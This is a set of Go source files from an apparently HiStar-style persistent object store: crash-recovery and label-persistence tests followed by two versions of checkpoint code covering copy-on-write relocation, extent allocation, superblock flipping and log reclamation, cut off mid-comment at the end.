	if _, err := s2.Get(2); !errors.Is(err, ErrNoSuchObject) {
		t.Errorf("async object should be lost after crash, got err=%v", err)
	}
}

func TestSyncedDeleteSurvivesCrash(t *testing.T) {
	s, d := testStore(t)
	s.Put(1, []byte("to be removed"))
	if err := s.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	s.Delete(1)
	if err := s.SyncObject(1); err != nil {
		t.Fatal(err)
	}
	d.Crash()
	s2, err := Open(d, Options{LogSize: 1 << 20})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s2.Get(1); !errors.Is(err, ErrNoSuchObject) {
		t.Errorf("synced delete should survive crash: %v", err)
	}
}

func TestGroupSyncCheaperThanPerObjectSync(t *testing.T) {
	// The single-level store's group sync should beat per-object sync by a
	// large factor on many-small-object workloads (the paper reports up to
	// ~200x for the LFS small-file benchmark).
	mk := func() (*Store, *vclock.Clock) {
		clk := &vclock.Clock{}
		d := disk.New(disk.Params{
			Sectors:              1 << 18,
			SeekTime:             8500000,
			RotationalLatency:    4150000,
			BandwidthBytesPerSec: 58e6,
			WriteCache:           true,
		}, clk)
		s, err := Format(d, Options{LogSize: 8 << 20})
		if err != nil {
			t.Fatal(err)
		}
		clk.Reset()
		return s, clk
	}
	data := bytes.Repeat([]byte("x"), 1024)

	perObj, clk1 := mk()
	for i := uint64(0); i < 200; i++ {
		perObj.Put(i, data)
		if err := perObj.SyncObject(i); err != nil {
			t.Fatal(err)
		}
	}
	perObjTime := clk1.Now()

	group, clk2 := mk()
	for i := uint64(0); i < 200; i++ {
		group.Put(i, data)
	}
	if err := group.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	groupTime := clk2.Now()

	if groupTime*10 > perObjTime {
		t.Errorf("group sync (%v) should be at least 10x cheaper than per-object sync (%v)", groupTime, perObjTime)
	}
}

func TestEvictCacheForcesDiskReads(t *testing.T) {
	s, d := testStore(t)
	payload := bytes.Repeat([]byte("y"), 4096)
	for i := uint64(0); i < 20; i++ {
		s.Put(i, payload)
	}
	s.Checkpoint()
	s.EvictCache()
	if s.Cached(3) {
		t.Error("object should have been evicted")
	}
	readsBefore := d.Stats().Reads
	got, err := s.Get(3)
	if err != nil || !bytes.Equal(got, payload) {
		t.Fatalf("Get after evict: %v", err)
	}
	if d.Stats().Reads == readsBefore {
		t.Error("uncached Get should have hit the disk")
	}
	if !s.Cached(3) {
		t.Error("Get should repopulate the cache")
	}
}

func TestLogFullTriggersCheckpointAndRetry(t *testing.T) {
	// A tiny log forces SyncObject to checkpoint and retry when it fills.
	d := disk.New(disk.Params{Sectors: 1 << 18, WriteCache: true}, &vclock.Clock{})
	s, err := Format(d, Options{LogSize: 64 * 1024})
	if err != nil {
		t.Fatal(err)
	}
	payload := bytes.Repeat([]byte("z"), 8*1024)
	for i := uint64(0); i < 20; i++ {
		s.Put(i, payload)
		if err := s.SyncObject(i); err != nil {
			t.Fatalf("sync %d: %v", i, err)
		}
	}
	if s.Stats().Checkpoints == 0 {
		t.Error("expected at least one checkpoint forced by a full log")
	}
	// Everything is still readable.
	for i := uint64(0); i < 20; i++ {
		if got, err := s.Get(i); err != nil || !bytes.Equal(got, payload) {
			t.Fatalf("object %d: %v", i, err)
		}
	}
}

func TestObjectGrowthRelocatesExtent(t *testing.T) {
	s, _ := testStore(t)
	s.Put(7, []byte("small"))
	s.Checkpoint()
	big := bytes.Repeat([]byte("B"), 64*1024)
	s.Put(7, big)
	s.Checkpoint()
	got, err := s.Get(7)
	if err != nil || !bytes.Equal(got, big) {
		t.Fatalf("after growth: %v (len %d)", err, len(got))
	}
	s.EvictCache()
	got, err = s.Get(7)
	if err != nil || !bytes.Equal(got, big) {
		t.Fatalf("after growth, uncached: %v (len %d)", err, len(got))
	}
}

func TestInPlaceRewriteForSameSizeObject(t *testing.T) {
	s, _ := testStore(t)
	payload := bytes.Repeat([]byte("a"), 8192)
	s.Put(3, payload)
	s.Checkpoint()
	update := bytes.Repeat([]byte("b"), 8192)
	s.Put(3, update)
	s.Checkpoint()
	s.EvictCache()
	got, err := s.Get(3)
	if err != nil || !bytes.Equal(got, update) {
		t.Fatalf("in-place rewrite: %v", err)
	}
}

func TestFreeSpaceReclaimedOnDelete(t *testing.T) {
	s, _ := testStore(t)
	before := s.FreeBytes()
	payload := bytes.Repeat([]byte("c"), 1<<20)
	for i := uint64(0); i < 10; i++ {
		s.Put(i, payload)
	}
	s.Checkpoint()
	mid := s.FreeBytes()
	if mid >= before {
		t.Fatalf("allocations did not consume space: %d -> %d", before, mid)
	}
	for i := uint64(0); i < 10; i++ {
		s.Delete(i)
	}
	s.Checkpoint()
	after := s.FreeBytes()
	if after <= mid {
		t.Errorf("deletes did not reclaim space: %d -> %d", mid, after)
	}
}

func TestCloseRejectsFurtherUse(t *testing.T) {
	s, _ := testStore(t)
	s.Put(1, []byte("x"))
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	if err := s.Put(2, []byte("y")); !errors.Is(err, ErrClosed) {
		t.Errorf("Put after close: %v", err)
	}
	if _, err := s.Get(1); !errors.Is(err, ErrClosed) {
		t.Errorf("Get after close: %v", err)
	}
}

func TestOpenRejectsUnformattedDisk(t *testing.T) {
	d := disk.New(disk.Params{Sectors: 1 << 16}, &vclock.Clock{})
	if _, err := Open(d, Options{}); err == nil {
		t.Error("opening an unformatted disk should fail")
	}
}

func TestStatsTracking(t *testing.T) {
	s, _ := testStore(t)
	s.Put(1, []byte("a"))
	s.Get(1)
	s.SyncObject(1)
	s.Checkpoint()
	st := s.Stats()
	if st.Puts != 1 || st.Gets != 1 || st.ObjectSyncs != 1 || st.Checkpoints != 1 {
		t.Errorf("stats = %+v", st)
	}
	if st.LiveObjects != 1 {
		t.Errorf("live objects = %d", st.LiveObjects)
	}
}

func TestLabelPersistence(t *testing.T) {
	s, d := testStore(t)
	taint := label.New(label.L1, label.P(label.Category(17), label.L3))
	plain := label.New(label.L1)
	user := label.New(label.L1,
		label.P(label.Category(3), label.L3), label.P(label.Category(9), label.L0))
	if err := s.PutLabeled(1, taint, []byte("tainted file")); err != nil {
		t.Fatal(err)
	}
	if err := s.PutLabeled(2, plain, []byte("public file")); err != nil {
		t.Fatal(err)
	}
	if err := s.Put(3, []byte("unlabeled")); err != nil {
		t.Fatal(err)
	}
	if err := s.SetLabel(3, user); err != nil {
		t.Fatal(err)
	}
	if got, ok := s.Label(1); !ok || !got.Equal(taint) {
		t.Fatalf("Label(1) = %v, %v", got, ok)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}

	// Reopen: labels must be restored from the checkpointed metadata in
	// canonical form, with fingerprints recomputed on load.
	r, err := Open(d, Options{LogSize: 1 << 20})
	if err != nil {
		t.Fatal(err)
	}
	if r.LabelCount() != 3 {
		t.Fatalf("LabelCount = %d, want 3", r.LabelCount())
	}
	for id, want := range map[uint64]label.Label{1: taint, 2: plain, 3: user} {
		got, ok := r.Label(id)
		if !ok || !got.Equal(want) {
			t.Errorf("Label(%d) = %v, %v; want %v", id, got, ok, want)
			continue
		}
		if got.Fingerprint() != want.Fingerprint() {
			t.Errorf("Label(%d) fingerprint = %x, want %x", id, got.Fingerprint(), want.Fingerprint())
		}
		if got.RaisedFingerprint() != want.RaisedFingerprint() {
			t.Errorf("Label(%d) raised fingerprint mismatch", id)
		}
	}
	data, err := r.Get(1)
	if err != nil || string(data) != "tainted file" {
		t.Fatalf("Get(1) = %q, %v", data, err)
	}
}

func TestLabelDroppedWithDelete(t *testing.T) {
	s, _ := testStore(t)
	if err := s.PutLabeled(7, label.New(label.L2), []byte("x")); err != nil {
		t.Fatal(err)
	}
	if err := s.Delete(7); err != nil {
		t.Fatal(err)
	}
	if _, ok := s.Label(7); ok {
		t.Error("label should be dropped with the object")
	}
	if s.LabelCount() != 0 {
		t.Errorf("LabelCount = %d, want 0", s.LabelCount())
	}
}
