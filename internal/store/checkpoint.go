package store

import (
	"encoding/binary"
	"fmt"

	"histar/internal/btree"
)

// Checkpoint writes every dirty object to a freshly allocated home extent,
// persists the metadata trees and superblock, and truncates the log: the
// whole-system snapshot behind HiStar's group sync consistency choice.  The
// application either runs to completion or appears never to have started.
// It holds ckptMu exclusively — the stop-the-world moment every concurrent
// operation's read lock fences against — so entries and trees are accessed
// directly.
//
// Checkpoints are copy-on-write: a dirty object is never rewritten over the
// extent the current (still-referenced) snapshot points to, because a torn
// write there would corrupt the only intact copy — exactly the failure the
// crash-injection harness replays for.  Extents vacated by relocation or
// deletion are held back from the allocator until every data write of this
// checkpoint has issued, then returned to the free trees just before the
// metadata snapshot is serialized: the new snapshot records them free, while
// the old snapshot's extents were never overwritten, so whichever superblock
// a crash leaves behind references only intact data.
func (s *Store) Checkpoint() error {
	s.ckptMu.Lock()
	defer s.ckptMu.Unlock()
	return s.checkpointLocked()
}

// checkpointLocked is Checkpoint's body; the caller holds ckptMu exclusively.
func (s *Store) checkpointLocked() error {
	if s.closed {
		return ErrClosed
	}
	s.c.checkpoints.Add(1)
	if err := s.relocateDirty(); err != nil {
		return err
	}
	// All data writes issued; the vacated extents may now rejoin the free
	// trees so the metadata snapshot below records them reusable.
	for _, e := range s.deferredFree {
		s.addFree(e)
	}
	s.deferredFree = nil
	if err := s.writeSuperblock(); err != nil {
		return err
	}
	if err := s.d.Flush(); err != nil {
		return err
	}
	if err := s.l.Truncate(); err != nil {
		return err
	}
	s.c.logApplications.Add(1)
	s.ckptEpoch.Add(1)
	return nil
}

// relocateDirty walks every entry, vacating deleted objects' extents and
// writing dirty objects to fresh home extents.  It is the object map's only
// writer and runs behind metaMu exclusively (concurrent readers are already
// excluded by the caller's ckptMu hold, so metaMu here is the lock-order
// witness, not the exclusion).
func (s *Store) relocateDirty() error {
	s.metaMu.Lock()
	defer s.metaMu.Unlock()
	for si := range s.shards {
		sh := &s.shards[si]
		for id, e := range sh.objs {
			switch {
			case e.dead:
				// Vacate the extent of a deleted object (deferred: see the
				// Checkpoint comment); the label was cleared at delete time.
				if off, ok := s.objMap.Get(btree.K1(id)); ok {
					size := s.objSizes[id]
					s.objMap.Delete(btree.K1(id))
					delete(s.objSizes, id)
					s.deferredFree = append(s.deferredFree, extent{off: int64(off), size: alignUp(size)})
				}
				delete(sh.objs, id)
			case e.dirty:
				// Write the object to a new home extent.  Delayed allocation:
				// space is chosen only now, so consecutive dirty objects land
				// contiguously.
				if oldOff, ok := s.objMap.Get(btree.K1(id)); ok {
					oldSize := s.objSizes[id]
					s.objMap.Delete(btree.K1(id))
					s.deferredFree = append(s.deferredFree, extent{off: int64(oldOff), size: alignUp(oldSize)})
				}
				ext, err := s.allocate(int64(len(e.data)))
				if err != nil {
					return err
				}
				if len(e.data) > 0 {
					if _, err := s.d.WriteAt(e.data, ext.off); err != nil {
						return err
					}
				}
				s.objMap.Put(btree.K1(id), uint64(ext.off))
				s.objSizes[id] = int64(len(e.data))
				s.c.bytesHome.Add(uint64(len(e.data)))
				e.dirty = false
			case !e.cached && !e.hasLbl:
				// Nothing worth remembering: prune the entry.
				delete(sh.objs, id)
			}
		}
	}
	return nil
}

// ---------------------------------------------------------------------------
// Extent allocation.
// ---------------------------------------------------------------------------

func alignUp(n int64) int64 {
	if n <= 0 {
		return extentAlign
	}
	return (n + extentAlign - 1) / extentAlign * extentAlign
}

// allocate finds a free extent of at least size bytes using the
// free-by-size tree, splitting the extent when it is larger than needed.
func (s *Store) allocate(size int64) (extent, error) {
	s.allocMu.Lock()
	defer s.allocMu.Unlock()
	need := alignUp(size)
	k, _, ok := s.freeBySize.Ceiling(btree.K2(uint64(need), 0))
	if !ok {
		return extent{}, ErrNoSpace
	}
	ext := extent{off: int64(k[1]), size: int64(k[0])}
	s.removeFreeLocked(ext)
	if ext.size > need {
		s.addFreeLocked(extent{off: ext.off + need, size: ext.size - need})
		ext.size = need
	}
	return ext, nil
}

// addFree inserts an extent into both free trees, coalescing with adjacent
// extents (the purpose of the offset-indexed tree).
func (s *Store) addFree(e extent) {
	s.allocMu.Lock()
	s.addFreeLocked(e)
	s.allocMu.Unlock()
}

func (s *Store) addFreeLocked(e extent) {
	if e.size <= 0 {
		return
	}
	// Coalesce with the preceding extent.
	if k, v, ok := s.freeByOff.Floor(btree.K1(uint64(e.off))); ok {
		prev := extent{off: int64(k[0]), size: int64(v)}
		if prev.off+prev.size == e.off {
			s.removeFreeLocked(prev)
			e.off = prev.off
			e.size += prev.size
		}
	}
	// Coalesce with the following extent.
	if k, v, ok := s.freeByOff.Ceiling(btree.K1(uint64(e.off + e.size))); ok {
		next := extent{off: int64(k[0]), size: int64(v)}
		if e.off+e.size == next.off {
			s.removeFreeLocked(next)
			e.size += next.size
		}
	}
	s.freeBySize.Put(btree.K2(uint64(e.size), uint64(e.off)), 0)
	s.freeByOff.Put(btree.K1(uint64(e.off)), uint64(e.size))
}

func (s *Store) removeFreeLocked(e extent) {
	s.freeBySize.Delete(btree.K2(uint64(e.size), uint64(e.off)))
	s.freeByOff.Delete(btree.K1(uint64(e.off)))
}

// ---------------------------------------------------------------------------
// Superblock and metadata persistence.
// ---------------------------------------------------------------------------

// The superblock stores the location and length of the serialized metadata
// (object map, object sizes, free list, labels, label index).  Metadata is
// written to the alternate metadata area on every checkpoint and the
// superblock is updated last, so a crash during checkpoint leaves the
// previous snapshot intact.  writeSuperblock and the metadata codecs run
// only under ckptMu held exclusively (Checkpoint) or during single-threaded
// construction (Format, Open).

func (s *Store) writeSuperblock() error {
	meta := s.encodeMetadata()
	if int64(len(meta)) > s.metaSize {
		return fmt.Errorf("store: metadata (%d bytes) exceeds the metadata area", len(meta))
	}
	next := 1 - s.metaWhich
	metaOff := logOffset + s.logSize + int64(next)*s.metaSize
	if len(meta) > 0 {
		if _, err := s.d.WriteAt(meta, metaOff); err != nil {
			return err
		}
	}
	var sb [superblockSize]byte
	binary.LittleEndian.PutUint64(sb[0:], superMagic)
	binary.LittleEndian.PutUint64(sb[8:], uint64(next))
	binary.LittleEndian.PutUint64(sb[16:], uint64(len(meta)))
	binary.LittleEndian.PutUint64(sb[24:], uint64(s.logSize))
	binary.LittleEndian.PutUint64(sb[32:], uint64(s.metaSize))
	if _, err := s.d.WriteAt(sb[:], superblockOffset); err != nil {
		return err
	}
	if err := s.d.Flush(); err != nil {
		return err
	}
	s.metaWhich = next
	return nil
}

func (s *Store) readSuperblock() error {
	var sb [superblockSize]byte
	if _, err := s.d.ReadAt(sb[:], superblockOffset); err != nil {
		return err
	}
	if binary.LittleEndian.Uint64(sb[0:]) != superMagic {
		return fmt.Errorf("store: bad superblock magic")
	}
	which := int(binary.LittleEndian.Uint64(sb[8:]))
	metaLen := int64(binary.LittleEndian.Uint64(sb[16:]))
	s.logSize = int64(binary.LittleEndian.Uint64(sb[24:]))
	s.metaSize = int64(binary.LittleEndian.Uint64(sb[32:]))
	if s.metaSize == 0 {
		// Images from before the metadata area size was recorded.
		s.metaSize = defaultMetaAreaSize
	}
	s.metaWhich = which
	if metaLen == 0 {
		dataStart := logOffset + s.logSize + 2*s.metaSize
		s.addFree(extent{off: dataStart, size: s.d.Size() - dataStart})
		return nil
	}
	metaOff := logOffset + s.logSize + int64(which)*s.metaSize
	meta := make([]byte, metaLen)
	if _, err := s.d.ReadAt(meta, metaOff); err != nil {
		return err
	}
	return s.decodeMetadata(meta)
}

// encodeMetadata serializes the object map, object sizes, free list, labels
// and label index.  Caller holds ckptMu exclusively (or is single-threaded
// construction).
func (s *Store) encodeMetadata() []byte {
	var buf []byte
	appendU64 := func(v uint64) { var b [8]byte; binary.LittleEndian.PutUint64(b[:], v); buf = append(buf, b[:]...) }

	appendU64(uint64(s.objMap.Len()))
	s.objMap.Scan(func(k btree.Key, v uint64) bool {
		appendU64(k[0])
		appendU64(v)
		appendU64(uint64(s.objSizes[k[0]]))
		return true
	})
	// Free list by offset.
	var frees [][2]uint64
	s.freeByOff.Scan(func(k btree.Key, v uint64) bool {
		frees = append(frees, [2]uint64{k[0], v})
		return true
	})
	appendU64(uint64(len(frees)))
	for _, f := range frees {
		appendU64(f[0])
		appendU64(f[1])
	}
	// Object labels, in canonical serialized form.  Older metadata images
	// simply end here; decodeMetadata treats the section as optional.
	nLabels := 0
	for si := range s.shards {
		nLabels += s.shards[si].labelIndex.Len()
	}
	appendU64(uint64(nLabels))
	for si := range s.shards {
		for id, e := range s.shards[si].objs {
			if !e.hasLbl {
				continue
			}
			appendU64(id)
			buf = e.lbl.AppendBinary(buf)
		}
	}
	// The fingerprint-keyed label index, serialized shard by shard in tree
	// order.  Also optional on decode: images written before the index
	// existed rebuild it from the label section above.
	appendU64(uint64(nLabels))
	for si := range s.shards {
		s.shards[si].labelIndex.Scan(func(k btree.Key, _ uint64) bool {
			appendU64(k[0])
			appendU64(k[1])
			return true
		})
	}
	return buf
}

// decodeMetadata rebuilds the trees and entries from a snapshot image; Open
// calls it before the store is published, so no locks are taken.
func (s *Store) decodeMetadata(buf []byte) error {
	readU64 := func() (uint64, error) {
		if len(buf) < 8 {
			return 0, fmt.Errorf("store: truncated metadata")
		}
		v := binary.LittleEndian.Uint64(buf)
		buf = buf[8:]
		return v, nil
	}
	n, err := readU64()
	if err != nil {
		return err
	}
	for i := uint64(0); i < n; i++ {
		id, err := readU64()
		if err != nil {
			return err
		}
		off, err := readU64()
		if err != nil {
			return err
		}
		size, err := readU64()
		if err != nil {
			return err
		}
		s.objMap.Put(btree.K1(id), off)
		s.objSizes[id] = int64(size)
	}
	nf, err := readU64()
	if err != nil {
		return err
	}
	for i := uint64(0); i < nf; i++ {
		off, err := readU64()
		if err != nil {
			return err
		}
		size, err := readU64()
		if err != nil {
			return err
		}
		s.freeBySize.Put(btree.K2(size, off), 0)
		s.freeByOff.Put(btree.K1(off), size)
	}
	// Optional label section (absent in pre-label metadata images).
	if len(buf) == 0 {
		return nil
	}
	nl, err := readU64()
	if err != nil {
		return err
	}
	for i := uint64(0); i < nl; i++ {
		id, err := readU64()
		if err != nil {
			return err
		}
		lbl, rest, err := s.decodeLabel(buf)
		if err != nil {
			return err
		}
		buf = rest
		e := s.shardOf(id).getOrCreate(id)
		e.lbl, e.hasLbl = lbl, true
	}
	// Optional label-index section (absent in pre-index images, which
	// rebuild it from the labels just decoded).
	if len(buf) == 0 {
		for si := range s.shards {
			sh := &s.shards[si]
			for id, e := range sh.objs {
				if e.hasLbl {
					sh.labelIndex.Put(btree.K2(uint64(e.lbl.Fingerprint()), id), 0)
				}
			}
		}
		return nil
	}
	ni, err := readU64()
	if err != nil {
		return err
	}
	for i := uint64(0); i < ni; i++ {
		fp, err := readU64()
		if err != nil {
			return err
		}
		id, err := readU64()
		if err != nil {
			return err
		}
		s.shardOf(id).labelIndex.Put(btree.K2(fp, id), 0)
	}
	return nil
}
