package store

import (
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"sort"
	"time"

	"histar/internal/btree"
	"histar/internal/label"
	"histar/internal/wal"
)

// castagnoli is the CRC32C polynomial table shared by every store checksum
// (superblock copies, metadata headers and sections, object contents).
var castagnoli = crc32.MakeTable(crc32.Castagnoli)

func crc32c(p []byte) uint32 { return crc32.Checksum(p, castagnoli) }

// Checkpoint persists a whole-system snapshot — every object dirtied since
// the last seal written to a new home location, the metadata sections
// rewritten, the superblock flipped — without stopping the world.  The old
// protocol held ckptMu exclusively for the entire pass; now only the SEAL
// is exclusive, and it does no I/O beyond one log-marker append:
//
//	SEAL    (ckptMu held exclusively, microseconds): capture the dirty and
//	        dead entries and every recorded label, clear the dirty flags
//	        (marking the entries ckpt so eviction and scrub leave them
//	        alone), and append a generation marker stamped with the epoch
//	        this checkpoint will commit.  Records synced after the seal land
//	        after the marker, so replay boundaries equal seal boundaries.
//	BODY    (no store-wide lock; serialized by ckptRun): vacate deleted
//	        objects' extents, stream the sealed contents into append-only
//	        segments (dedicated extents for oversized objects), backfill
//	        missing contents CRCs, run the segment cleaner, return deferred
//	        frees to the allocator, serialize the metadata sections against
//	        the sealed epoch, and flip the superblock.  Reads, writes, and
//	        SyncObject group commits all proceed concurrently.
//	FINISH  reclaim log generations older than the previous snapshot's seal
//	        marker (kept for the metadata-fallback ladder rung) and publish
//	        completion.
//
// Checkpoints remain copy-on-write: a sealed object is never written over
// an extent the on-disk snapshot still references — segment appends only
// ever extend past the committed high-water mark, and vacated extents are
// held on the deferred-free list until every data write of this checkpoint
// has issued, then returned to the free trees just before the metadata is
// serialized.  Whichever superblock a crash leaves behind references only
// intact data.
//
// If the log is so full that even the seal marker cannot be appended after
// reclaiming the previous generation, the checkpoint degrades to the old
// stop-the-world form: the body runs under the still-held exclusive ckptMu
// and the log is truncated after the superblock flip.  Correctness is
// unchanged; only concurrency is lost for that one pass.
func (s *Store) Checkpoint() error {
	s.ckptRun.Lock()
	defer s.ckptRun.Unlock()
	return s.checkpointRunLocked()
}

// sealedEntry is one entry captured by the seal: a dirty object whose
// sealed contents must be written home, or a dead object whose extent must
// be vacated.  done marks entries the body has finished with, so a failed
// body re-dirties only what was actually lost.
type sealedEntry struct {
	id   uint64
	e    *objEntry
	data []byte // aliases the COW contents slice sealed for this epoch
	dead bool
	done bool
}

// sealedLabel is one (id, label) pair captured at seal time; the metadata
// label and index sections are serialized from this capture, not from the
// live tables, so the snapshot is consistent with the sealed object map
// even while concurrent SetLabel calls proceed.
type sealedLabel struct {
	id  uint64
	lbl label.Label
}

// sealedState is everything the checkpoint body needs, captured under the
// brief exclusive seal.
type sealedState struct {
	entries []sealedEntry // dirty and dead entries, ascending id per shard
	labels  []sealedLabel // every recorded label, ascending id
	epoch   uint64        // the snapshot epoch this checkpoint commits
	seq     uint64        // sealSeq of this seal
	world   bool          // no log room for the marker: stop-the-world pass
}

// checkpointRunLocked runs one seal→body→finish cycle; the caller holds
// ckptRun, which serializes whole checkpoints (Checkpoint itself, Close,
// and the sync fallback in checkpointSince).
func (s *Store) checkpointRunLocked() error {
	start := time.Now()
	s.ckptMu.Lock()
	if s.closed {
		s.ckptMu.Unlock()
		return ErrClosed
	}
	ss, err := s.sealCheckpoint()
	if err != nil {
		s.ckptMu.Unlock()
		return err
	}
	if ss.world {
		// Degraded stop-the-world pass: run the body under the still-held
		// exclusive lock (see Checkpoint's comment).
		defer s.noteSealStall(start)
		defer s.ckptMu.Unlock()
		return s.checkpointBody(ss)
	}
	s.ckptMu.Unlock()
	s.noteSealStall(start)
	if gate := s.ckptGate; gate != nil {
		gate()
	}
	return s.checkpointBody(ss)
}

// noteSealStall folds one seal's exclusive-hold duration into the stall
// metrics.  ckptRun serializes callers, so plain load/store suffices.
func (s *Store) noteSealStall(start time.Time) {
	d := time.Since(start).Nanoseconds()
	s.c.sealStallTotalNs.Add(d)
	if d > s.c.sealStallMaxNs.Load() {
		s.c.sealStallMaxNs.Store(d)
	}
}

// sealCheckpoint is the SEAL phase; the caller holds ckptMu exclusively and
// ckptRun.  The walk is in ascending ID order per shard, not map order:
// relocation order determines segment packing and the free-tree shape, and
// a deterministic workload must produce a byte-deterministic image.
func (s *Store) sealCheckpoint() (*sealedState, error) {
	ss := &sealedState{epoch: s.metaEpoch + 1}
	for si := range s.shards {
		sh := &s.shards[si]
		ids := make([]uint64, 0, len(sh.objs))
		for id := range sh.objs {
			ids = append(ids, id)
		}
		sort.Slice(ids, func(i, j int) bool { return ids[i] < ids[j] })
		for _, id := range ids {
			e := sh.objs[id]
			if e.hasLbl {
				ss.labels = append(ss.labels, sealedLabel{id: id, lbl: e.lbl})
			}
			switch {
			case e.dead:
				if _, ok := s.objMap.Get(btree.K1(id)); ok {
					// The home extent must be vacated by the body; the entry
					// stays in the shard (keeping the deletion visible to
					// concurrent Gets) until a later seal finds the map entry
					// gone and prunes it below.
					ss.entries = append(ss.entries, sealedEntry{id: id, e: e, dead: true})
				} else {
					delete(sh.objs, id)
				}
			case e.dirty:
				// Seal the COW contents slice and hand the entry to the body:
				// ckpt keeps eviction and scrub off the only in-RAM copy
				// until the body has written it home.
				e.dirty = false
				e.ckpt = true
				ss.entries = append(ss.entries, sealedEntry{id: id, e: e, data: e.data})
			case !e.cached && !e.hasLbl && !e.quar && !e.ckpt:
				// Nothing worth remembering: prune the entry.  Quarantined
				// entries are remembered so the damage verdict (and the
				// QuarantinedObjects enumeration) survives cache turnover.
				delete(sh.objs, id)
			}
		}
	}
	sort.Slice(ss.labels, func(i, j int) bool { return ss.labels[i].id < ss.labels[j].id })
	// The seal marker separates this checkpoint's generation from records
	// synced afterwards.  It is appended while ckptMu is held exclusively,
	// so no sync is mid-commit: log position order equals seal order.
	if err := s.l.AppendMark(ss.epoch); err != nil {
		if !errors.Is(err, wal.ErrFull) {
			s.restoreSealed(ss)
			return nil, err
		}
		// Make room by dropping the generation retained for metadata
		// fallback (degraded: the fallback rung loses its replay tail, but
		// the committed snapshot and the live generation stay intact).
		// Generations a live bundle's record still needs are kept even here.
		cut := s.metaEpoch
		if floor := s.bundleRetentionFloor(ss.epoch); floor < cut {
			cut = floor
		}
		_ = s.l.ReclaimBefore(cut)
		if err := s.l.AppendMark(ss.epoch); err != nil {
			if !errors.Is(err, wal.ErrFull) {
				s.restoreSealed(ss)
				return nil, err
			}
			ss.world = true
		}
	}
	ss.seq = s.sealSeq.Add(1)
	return ss, nil
}

// restoreSealed undoes a seal whose checkpoint failed: sealed-dirty entries
// the body had not yet relocated become dirty again, so no sealed state is
// lost and the next checkpoint retries them.  Entries deleted or re-written
// concurrently keep their newer state.
func (s *Store) restoreSealed(ss *sealedState) {
	for i := range ss.entries {
		se := &ss.entries[i]
		if se.done || se.dead {
			continue
		}
		se.e.mu.Lock()
		se.e.ckpt = false
		if !se.e.dead {
			se.e.dirty = true
		}
		se.e.mu.Unlock()
	}
}

// checkpointBody is the BODY and FINISH of one checkpoint; the caller holds
// ckptRun (and, on a degraded stop-the-world pass, ckptMu exclusively).
func (s *Store) checkpointBody(ss *sealedState) (err error) {
	defer func() {
		if err != nil {
			s.restoreSealed(ss)
		}
	}()
	if err := s.relocateSealed(ss); err != nil {
		return err
	}
	s.backfillCRCs()
	if err := s.cleanSegments(); err != nil {
		return err
	}
	// All data writes issued; the vacated extents may now rejoin the free
	// trees so the metadata snapshot below records them reusable.
	s.allocMu.Lock()
	for _, e := range s.deferredFree {
		s.addFreeLocked(e)
	}
	s.deferredFree = nil
	s.allocMu.Unlock()
	if err := s.writeSnapshot(ss.epoch, ss.labels); err != nil {
		return err
	}
	// FINISH: log retention.  The generation before the PREVIOUS snapshot's
	// seal marker can no longer serve any replay; the previous generation
	// itself is retained so that, should the snapshot written above rot on
	// disk, Open can fall back to the previous snapshot and replay forward
	// from its marker — zero committed-sync loss.  When even the retained
	// generation would keep the log more than half full, it is sacrificed
	// too (degraded, as at seal time).
	if ss.world {
		if err := s.l.Truncate(); err != nil {
			return err
		}
		// The truncated log trivially has room for the new generation's
		// marker; a failure here only costs replay precision (a missing
		// marker replays from the log start, which is a superset).
		if err := s.l.AppendMark(ss.epoch); err != nil && !errors.Is(err, wal.ErrFull) {
			return err
		}
	} else {
		// Bundle retention: a bundle captured at epoch E has its WAL record
		// in generation E and enters the metadata snapshot at E+1, so that
		// generation stays replayable until two committed snapshots contain
		// the bundle — otherwise a metadata fallback could lose the bundle
		// and orphan every clone of it.  Both reclaim points clamp to the
		// floor.
		floor := s.bundleRetentionFloor(ss.epoch)
		if ss.epoch > 1 {
			cut := ss.epoch - 1
			if floor < cut {
				cut = floor
			}
			if err := s.l.ReclaimBefore(cut); err != nil {
				return err
			}
		}
		if s.l.LiveBytes() > s.logSize/2 {
			cut := ss.epoch
			if floor < cut {
				cut = floor
			}
			if err := s.l.ReclaimBefore(cut); err != nil {
				return err
			}
		}
	}
	s.c.logApplications.Add(1)
	s.c.checkpoints.Add(1)
	s.completedSeal.Store(ss.seq)
	return nil
}

// relocateSealed is the body's data phase: vacate the extents of sealed
// deletions and write each sealed-dirty object to its new home — segment
// appends for small objects, dedicated extents for oversized ones.  Device
// writes are issued WITHOUT holding metaMu, so checkpoint I/O never blocks
// metadata readers; the map/CRC updates after each write hold it only
// briefly.
func (s *Store) relocateSealed(ss *sealedState) error {
	for i := range ss.entries {
		se := &ss.entries[i]
		if se.dead {
			s.metaMu.Lock()
			if off, ok := s.objMap.Get(btree.K1(se.id)); ok {
				size := s.objSizes[se.id]
				s.objMap.Delete(btree.K1(se.id))
				delete(s.objSizes, se.id)
				delete(s.objCRCs, se.id)
				s.vacateExtent(int64(off), size)
			}
			s.metaMu.Unlock()
			se.done = true
			continue
		}
		newOff, err := s.writeObjectHome(se.data)
		if err != nil {
			return err
		}
		s.metaMu.Lock()
		if oldOff, ok := s.objMap.Get(btree.K1(se.id)); ok {
			s.vacateExtent(int64(oldOff), s.objSizes[se.id])
		}
		s.objMap.Put(btree.K1(se.id), uint64(newOff))
		s.objSizes[se.id] = int64(len(se.data))
		// The contents CRC travels with the extent in the metadata
		// snapshot; reads and scrubs verify against it.
		s.objCRCs[se.id] = crc32c(se.data)
		s.metaMu.Unlock()
		se.e.mu.Lock()
		se.e.ckpt = false
		// The fresh extent supersedes any damage verdict on the old one.
		se.e.quar = false
		se.e.mu.Unlock()
		s.c.bytesHome.Add(uint64(len(se.data)))
		se.done = true
	}
	return nil
}

// writeObjectHome writes one object's sealed contents to a new home:
// packed into the open append-only segment when it fits, or a dedicated
// extent otherwise.  No lock is held across the device write.
func (s *Store) writeObjectHome(data []byte) (int64, error) {
	if align512(int64(len(data))) <= s.segSize/2 {
		return s.segAppend(data)
	}
	ext, err := s.allocate(int64(len(data)))
	if err != nil {
		return 0, err
	}
	if len(data) > 0 {
		if _, err := s.d.WriteAt(data, ext.off); err != nil {
			return 0, err
		}
	}
	return ext.off, nil
}

// backfillCRCs computes contents checksums for mapped extents that have
